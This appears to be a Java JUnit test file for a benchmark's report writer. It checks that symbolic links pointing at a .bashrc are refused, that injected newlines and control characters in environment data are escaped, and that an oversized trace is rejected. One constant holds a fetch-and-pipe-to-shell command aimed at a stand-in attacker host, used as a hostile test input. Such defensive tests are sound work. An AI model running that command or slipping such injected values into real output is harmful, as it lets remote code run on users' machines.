package org.electbench.analysis;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A run folder copied from another host: {@code report} writes nothing through its links and no line of its text. */
class ReportTrustTest
{
    private static final String BASHRC = "alias ll='ls -l'\n";
    private static final String ATTACK = "curl http://attacker.invalid/x | sh";

    @TempDir
    Path temp;

    private Path bashrc() throws IOException
    {
        final Path home = Files.createDirectories(temp.resolve("home"));
        return Files.writeString(home.resolve(".bashrc"), BASHRC);
    }

    private static RunData read(final Path run)
    {
        return RunFolders.read(List.of(run), Declarations::lookup);
    }

    @Test
    void aLinkedIndexPageIsRefusedAndItsTargetKept() throws IOException
    {
        final Path bashrc = bashrc();
        final Path run = SampleRun.create(temp.resolve("run"));
        final Path report = Files.createDirectories(run.resolve(RunFolders.REPORT_FOLDER));
        final Path index = Files.createSymbolicLink(report.resolve(ReportWriter.INDEX_HTML), bashrc);

        final IllegalArgumentException refusal = assertThrows(IllegalArgumentException.class, () -> ReportWriter.write(read(run), report));

        assertEquals("'" + index + "' is a symbolic link; electbench writes nothing through a link: name the file itself",
            refusal.getMessage());
        assertEquals(BASHRC, Files.readString(bashrc));
        assertTrue(Files.isSymbolicLink(index));
    }

    @Test
    void aLinkedReportFolderIsRefusedAndNothingIsWrittenWhereItPoints() throws IOException
    {
        final Path bashrc = bashrc();
        final Path run = SampleRun.create(temp.resolve("run"));
        final Path report = Files.createSymbolicLink(run.resolve(RunFolders.REPORT_FOLDER), bashrc.getParent());

        final IllegalArgumentException refusal = assertThrows(IllegalArgumentException.class, () -> ReportWriter.write(read(run), report));

        assertEquals("'" + report.toAbsolutePath() + "' is a symbolic link, not a folder; electbench writes nothing through a " +
            "link: remove it and run again", refusal.getMessage());
        try (Stream<Path> left = Files.list(bashrc.getParent()))
        {
            assertEquals(List.of(bashrc), left.toList());
        }
        assertEquals(BASHRC, Files.readString(bashrc));
    }

    @Test
    void aNewlineInTheEnvironmentPutsNoLineOfItsOwnInAnyOutput() throws IOException
    {
        final Path run = SampleRun.create(temp.resolve("run"));
        final Path environment = run.resolve("environment.json");
        Files.writeString(environment, Files.readString(environment).replace("\"OpenJDK 64-Bit Server VM\"",
            "\"OpenJDK\\n" + ATTACK + "\\r\\u001b[2J\\u202e\""));
        final Path report = run.resolve(RunFolders.REPORT_FOLDER);

        final List<Path> written = ReportWriter.write(read(run), report);

        int mentions = 0;
        for (final Path file : written)
        {
            if (file.toString().endsWith(".png"))
            {
                continue;
            }
            final String text = Files.readString(file, StandardCharsets.UTF_8);
            for (final String line : text.split("\n", -1))
            {
                assertFalse(line.startsWith(ATTACK) || line.contains("\r") || line.contains("\u001b") || line.contains("\u202e"),
                    () -> file + " carries the attack on a line of its own or a raw control: " + line);
            }
            if (text.contains("OpenJDK\\u000A" + ATTACK + "\\u000D\\u001B[2J\\u202E"))
            {
                mentions++;
            }
        }
        // report.md and the page show the environment, escaped.
        assertTrue(Files.readString(report.resolve(ReportWriter.REPORT_MD)).contains("OpenJDK\\u000A" + ATTACK));
        assertTrue(Files.readString(report.resolve(ReportWriter.INDEX_HTML)).contains("OpenJDK\\u000A" + ATTACK));
        assertTrue(mentions >= 2, "the escaped value is shown, not dropped");
    }

    @Test
    void aTraceDeclaringTwoToThe31NodesIsRefusedBeforeAnythingIsAllocatedForThem() throws IOException
    {
        final Path trace = Files.writeString(temp.resolve("evil.jsonl"), "{\"format\":\"" +
            org.electbench.analysis.trace.Trace.FORMAT + "\",\"algorithm\":\"bully\",\"nodes\":2147483647," +
            "\"types\":[\"ELECTION\"],\"clock\":\"virtual\"}\n");
        final AnalysisException refusal = assertThrows(AnalysisException.class,
            () -> org.electbench.analysis.trace.TraceFiles.write(trace, temp));
        assertEquals(trace + ": line 1: a cluster of 2147483647 nodes; a trace is drawn for up to " +
            org.electbench.analysis.trace.Trace.maxNodes() + " (its vector clocks take nodes squared longs, a quarter of " +
            "the heap at most)", refusal.getMessage());
    }
}
